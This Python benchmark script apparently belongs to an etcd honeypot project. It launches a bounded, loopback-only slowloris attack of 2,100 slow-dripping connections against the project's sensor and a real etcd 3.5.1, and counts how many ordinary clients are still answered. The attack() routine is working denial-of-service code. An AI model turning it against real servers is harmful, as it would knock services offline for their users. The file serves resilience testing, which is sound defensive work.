#!/usr/bin/env python3
"""Slowloris against the sensor and against real etcd 3.5.1: are other clients still answered?

Usage:  .venv/bin/python bench/honeypot_slowloris.py [--seconds 40] [--drip-every 10] [--no-etcd] [--json out.json]

The attack (issue 17): 42 source addresses x 50 connections = 2,100, each under the sensor's
per-source cap (64); each sends a request line, then one header line every `--drip-every` seconds,
and opens a new connection 1 s after the server closes one (as slowloris tools do). Meanwhile 102
other clients, each from its own new address, send `GET /version` spread over the attack, 5 s
timeout each: the figure is how many are answered. The sensor runs in this process with its
defaults (1,024 connections, 64 per source, request head 10 s); to measure an older version put
its src/ first: PYTHONPATH=/path/to/old/src. Loopback only; bounded in time and connections.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import time
from pathlib import Path
from typing import Any

from etcdsec.honeypot.sensor import SensorConfig
from etcdsec.testbed.addresses import is_loopback
from etcdsec.testbed.etcd import EtcdConfig, EtcdServer

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from tests.support.harness import BackgroundSensor

ATTACK_SOURCES, PER_SOURCE, OTHERS = 42, 50, 102
MAX_OPENS = 200_000  # attack connections opened in all, whatever the duration


async def attack(host: str, port: int, stop_at: float, drip_every: float, counts: dict[str, int]) -> None:
    async def slot(src: str) -> None:
        while time.monotonic() < stop_at and counts["opened"] < MAX_OPENS:
            counts["opened"] += 1
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(src, 0)), 5)
            except (OSError, TimeoutError):
                await asyncio.sleep(1)
                continue
            try:
                writer.write(b"GET /version HTTP/1.1\r\n")
                n = 0
                while time.monotonic() < stop_at:
                    try:
                        if await asyncio.wait_for(reader.read(1), drip_every) == b"":
                            break  # closed by the server
                    except TimeoutError:
                        pass
                    writer.write(b"X-a-%d: b\r\n" % n)
                    n += 1
                    await writer.drain()
            except (OSError, ConnectionError):
                pass
            finally:
                writer.close()
            await asyncio.sleep(1)  # then try again, as slowloris does

    await asyncio.gather(*(slot(f"127.94.0.{s + 1}") for s in range(ATTACK_SOURCES) for _ in range(PER_SOURCE)))


async def other(host: str, port: int, src: str) -> bool:
    try:
        async with asyncio.timeout(5):
            reader, writer = await asyncio.open_connection(host, port, local_addr=(src, 0))
            writer.write(b"GET /version HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            answer = await reader.read(64)
            writer.close()
            return answer.startswith(b"HTTP/1.1 200 OK")
    except (OSError, TimeoutError, ConnectionError):
        return False


async def run(host: str, port: int, seconds: float, drip_every: float) -> dict[str, Any]:
    if not is_loopback(host):
        raise SystemExit("loopback only")
    counts = {"opened": 0}
    stop_at = time.monotonic() + seconds
    attacker = asyncio.create_task(attack(host, port, stop_at, drip_every, counts))
    await asyncio.sleep(min(5.0, seconds / 4))  # let it fill the slots first
    gap = (stop_at - time.monotonic() - 5) / OTHERS
    answers = []
    for i in range(OTHERS):
        answers.append(await other(host, port, f"127.95.0.{i + 1}"))
        await asyncio.sleep(max(0.0, gap - 0.01))
    await attacker
    return {"answered": sum(answers), "asked": OTHERS, "attack_connections_opened": counts["opened"]}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--seconds", type=float, default=40.0)
    ap.add_argument("--drip-every", type=float, default=10.0)
    ap.add_argument("--no-etcd", action="store_true")
    ap.add_argument("--json", type=Path)
    args = ap.parse_args()
    rows = []
    with BackgroundSensor(SensorConfig(persona="3.5.1", state_file=None)) as hp:
        row = asyncio.run(run(hp.ip, hp.port, args.seconds, args.drip_every))
        row.update(target="etcdsec honeypot", shed=len(hp.memory.of("session.shed")),
                   refused=len(hp.memory.of("session.refused")))
        rows.append(row)
    if not args.no_etcd:
        with EtcdServer(EtcdConfig(version="3.5")) as real:
            row = asyncio.run(run(real.host, 2379, args.seconds, args.drip_every))
            row.update(target="etcd 3.5.1")
            rows.append(row)
    print(f"slowloris: {ATTACK_SOURCES} addresses x {PER_SOURCE} connections, a header line every "
          f"{args.drip_every:g} s, {args.seconds:g} s; {OTHERS} other clients from new addresses")
    print(f"{'target':<18} {'answered':>9} {'fraction':>8} {'attack conns':>12} {'shed':>6} {'refused':>8}")
    for r in rows:
        print(f"{r['target']:<18} {r['answered']:>5}/{r['asked']:<3} {r['answered'] / r['asked']:>8.0%} "
              f"{r['attack_connections_opened']:>12} {r.get('shed', '-'):>6} {r.get('refused', '-'):>8}")
    if args.json:
        args.json.write_text(json.dumps(rows, indent=2))
    sys.exit(0)


if __name__ == "__main__":
    main()
